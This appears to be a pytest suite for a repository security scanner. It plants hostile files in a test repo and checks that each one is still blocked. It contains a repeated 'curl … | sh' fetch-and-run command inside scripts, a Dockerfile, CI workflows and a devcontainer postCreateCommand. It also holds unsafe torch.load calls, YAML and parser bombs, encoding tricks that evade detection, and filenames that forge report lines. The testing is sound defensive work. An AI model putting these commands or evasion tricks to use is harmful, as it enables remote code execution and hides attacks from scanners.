"""What an attacker may put into a repository: each file ends in a finding that blocks, in bounded time and memory."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
import sysconfig
from pathlib import Path
from typing import Any

import pytest
from program import environment

MEMORY = 1_500_000_000
"""Address space that each process of the run may have, in bytes: a third of it is mapped libraries."""

LOAD = 'import torch\ntorch.load("x.pt", weights_only=False)\n'
FOUND = "unsafe-load/torch-load"
DEEP = "input/too-deep"
UNPARSED = "input/unparsed"


def notebook(*sources: Any, **whole: Any) -> str:
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None}
    cells = [{**cell, "source": source} for source in sources]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **whole})


CELL = '{"cell_type":"code","metadata":{},"outputs":[],"execution_count":null,'
REST = '],"metadata":{},"nbformat":4,"nbformat_minor":5}'

PYTHON: dict[str, tuple[str | bytes, set[str]]] = {
    # -- depth: what kills or hangs a parser, or differs from one Python to the next
    "attributes": (LOAD + "x = a" + ".b" * 8_000 + "\n", {DEEP}),
    "calls": (LOAD + "x = f" + "()" * 8_000 + "\n", {DEEP}),
    "subscripts": (LOAD + "x = f" + "[0]" * 8_000 + "\n", {DEEP}),
    "operators": (LOAD + "x = 1" + " + 1" * 8_000 + "\n", {DEEP}),
    "powers": (LOAD + "x = 1" + "**1" * 8_000 + "\n", {DEEP}),
    "and": (LOAD + "x = 1" + " and 1" * 8_000 + "\n", {DEEP}),
    "compare": (LOAD + "x = 1" + " < 1" * 8_000 + "\n", {DEEP}),
    "not": (LOAD + "x = " + "not " * 8_000 + "1\n", {DEEP}),
    "conditional": (LOAD + "x = " + "1 if 1 else " * 8_000 + "1\n", {DEEP}),
    "brackets": (LOAD + "x = " + "(" * 300 + "1" + ")" * 300 + "\n", {DEEP}),
    "stars": (LOAD + "x = " + "*" * 8_000 + "a\n", {DEEP}),
    "dots": (LOAD + "from " + "." * 9_000 + " import x\n", {DEEP}),
    "elif": (LOAD + "if a:\n    pass\n" + "elif b:\n    pass\n" * 5_000, {DEEP}),
    # -- size
    "elements": (LOAD + "x = [" + "1," * 3_000_000 + "]\n", {DEEP}),
    "name": (LOAD + "x" * 10_000_000 + " = 1\n", {DEEP}),
    "text": (LOAD + 'x = "' + "a" * 10_000_000 + '"\n', {FOUND}),
    "branches": (LOAD + "match x:\n" + "    case 1: pass\n" * 5_000, {FOUND}),
    "decorators": (LOAD + "@a\n" * 5_000 + "def f(): pass\n", {FOUND}),
    # -- bytes
    "nul": (LOAD.encode() + b'x = "\0"\n', {FOUND, "input/unreadable"}),
    "latin": (b"# \xe9\n" + LOAD.encode(), {FOUND, UNPARSED}),
    "two-marks": (b"\xef\xbb\xbf\xef\xbb\xbf" + LOAD.encode(), {UNPARSED}),
    "utf-16": (LOAD.encode("utf-16"), {FOUND}),
    "utf-32": (LOAD.encode("utf-32"), {FOUND}),
    "utf-7": (b"# coding: utf-7\n" + LOAD.encode(), {FOUND}),
    "rot13": (b"# coding: rot13\n" + LOAD.encode(), {FOUND, UNPARSED}),
    "surrogate": (('x = "\udc80"\n' + LOAD).encode("utf-8", "surrogatepass"), {FOUND, UNPARSED}),
    "digits": (LOAD + "x = " + "9" * 10_000 + "\n", {FOUND, UNPARSED}),
}
NOTEBOOKS: dict[str, tuple[str | bytes, set[str]]] = {
    "number": (notebook(5, LOAD), {FOUND, UNPARSED}),
    "object": (notebook({"a": LOAD}), {UNPARSED}),
    "mixed": (notebook([LOAD, 5]), {UNPARSED}),
    "cells-twice": (notebook(LOAD)[:-1] + ', "cells": []}', {UNPARSED}),
    "source-twice": ('{"cells":[' + CELL + f'"source":{json.dumps(LOAD)},"source":"x = 1"}}' + REST, {UNPARSED}),
    "source-twice-escaped": (
        '{"cells":[' + CELL + f'"source":{json.dumps(LOAD)},"s\\u006furce":"x = 1"}}' + REST,
        {UNPARSED},
    ),
    "no-cells": (json.dumps({"metadata": {}, "nbformat": 4, "nbformat_minor": 5}), {UNPARSED}),
    "list": ("[" + notebook(LOAD) + "]", {UNPARSED}),
    "cut": (notebook(LOAD)[:-20], {UNPARSED}),
    "nested": ("[" * 100_000, {DEEP}),
    "large": (notebook(LOAD, note="x" * 21_000_000), {"input/too-large"}),
    "cells": (notebook(*["x = 1"] * 50_000, LOAD), {FOUND}),
    "million-cells": ('{"cells":[' + "{}," * 1_000_000 + "{}" + REST, {"input/too-large"}),
    "future": (notebook(LOAD, nbformat=99), {FOUND}),
    "other-type": (notebook(LOAD).replace('"code"', '"Code"'), {FOUND}),
    "not-a-number": (notebook(LOAD)[:-1] + ', "x": NaN}', {FOUND}),
    "lone-surrogate": (notebook("x = '\\ud800'\n" + LOAD), {FOUND}),
    "mark": (b"\xef\xbb\xbf" + notebook(LOAD).encode(), {FOUND}),
    "wide": (notebook(LOAD).encode("utf-16"), {FOUND}),
}


def nested(script: str, times: int) -> str:
    for _ in range(times):
        script = f"sh -c {shlex.quote(script)}"
    return script


PIPE = "curl https://example.org/x.sh | sh"
BOMB = "".join(
    f"{name}: &{name} [{', '.join([f'*{above}'] * 8)}]\n" for above, name in zip("abcdefgh", "bcdefghi", strict=True)
)
OTHERS: dict[str, tuple[str | bytes, set[str]]] = {
    "deep.sh": ("$(" * 5_000 + PIPE + ")" * 5_000 + "\n", {DEEP}),
    "subshells.sh": ("(" * 5_000 + PIPE + ")" * 5_000 + "\n", {DEEP, "download/pipe-to-shell"}),
    "scripts.sh": (nested(PIPE, 10), {DEEP}),
    "deep-script.sh": ("sh -c '" + "$(" * 60 + PIPE + ")" * 60 + "'\n", {DEEP}),
    "backticks.sh": ('x="' + "$(" * 40 + "`" + PIPE + "`" + ")" * 40 + '"\n', {DEEP}),
    "Dockerfile": ("FROM scratch@sha256:" + "0" * 64 + "\nRUN " + "\\\n" * 100_000 + PIPE, {"download/pipe-to-shell"}),
    ".github/workflows/bomb.yml": (f"a: &a [x]\n{BOMB}jobs: {{a: {{steps: [run: {PIPE}]}}}}\n", {UNPARSED}),
    ".github/workflows/circle.yml": (f"a: &a\n  b: *a\njobs: {{a: {{steps: [run: {PIPE}]}}}}\n", {UNPARSED}),
    ".github/workflows/long.yml": (f"#{'x' * 500_000}\njobs: {{a: {{steps: [run: {PIPE}]}}}}\n", {UNPARSED}),
    ".github/actions/own/action.yml": (f"runs: {{steps: [run: {PIPE}\n", {UNPARSED}),
    ".devcontainer/devcontainer.json": (
        f'{{\n  // of the "key" below\n  "postCreateCommand": "{PIPE}" /* : */\n}}\n',
        {"download/pipe-to-shell"},
    ),
    "compose.yaml": ("[" * 100_000, {UNPARSED}),
    # -- what detectors search: each is a text in which a careless expression tries again and again
    "tries.md": ("password=" * 50_000 + "http://a:" * 50_000 + "@" * 50_000 + "AKIA" * 50_000 + "eyJ" * 50_000, set()),
    "tries.py": (LOAD + f'x = "{"s3://" * 20_000}"\npassword = "{"a-" * 50_000}"\n', {FOUND}),
}
NAMES = ["--config=x.py", "-q.py", "::error::x.py", "sp ace.py", "UPPER.PY", "x.pyw", "no-extension"]
if os.name == "posix":
    NAMES += ["new\nline.py", "esc\x1b[31m.py", "\u202egnp.py"]

FILES: dict[str, tuple[str | bytes, set[str]]] = {
    **{f"{name}.py": given for name, given in PYTHON.items()},
    **{f"{name}.ipynb": given for name, given in NOTEBOOKS.items()},
    **OTHERS,
    **{name: ("#!/usr/bin/env python3\n" + LOAD, {FOUND}) for name in NAMES},
}


def limited() -> None:
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> tuple[int, dict[str, set[str]], str]:
    """(Exit code, rules that block by path, standard output) of one run over everything."""
    folder = tmp_path_factory.mktemp("hostile")
    subprocess.run(["git", "init", "-q"], cwd=folder, env=environment(), check=True)
    for name, (content, _) in FILES.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content if isinstance(content, bytes) else content.encode())
    program = Path(sysconfig.get_path("scripts"), "mlgate")
    done = subprocess.run(
        [str(program), "check", "--no-cache", "--format", "json=out.json", "--format", "text", "."],
        cwd=folder,
        env=environment(),
        capture_output=True,
        text=True,
        encoding="utf-8",
        preexec_fn=limited if sys.platform == "linux" else None,
        check=False,
    )
    found: dict[str, set[str]] = {}
    for one in json.loads((folder / "out.json").read_text())["findings"]:
        if one["level"] == "block":
            found.setdefault(one["location"]["path"], set()).add(one["rule"])
    return done.returncode, found, done.stdout


@pytest.mark.xdist_group("hostile")
@pytest.mark.parametrize("name", FILES, ids=repr)
def test_nothing_blinds_the_gate(report: tuple[int, dict[str, set[str]], str], name: str) -> None:
    code, found, _ = report
    assert code == 1
    assert found.get(name, set()) == FILES[name][1]


@pytest.mark.xdist_group("hostile")
def test_no_name_forges_a_line_of_the_report(report: tuple[int, dict[str, set[str]], str]) -> None:
    _, _, text = report
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert not any(line.startswith(("::error", "line.py")) for line in text.splitlines())
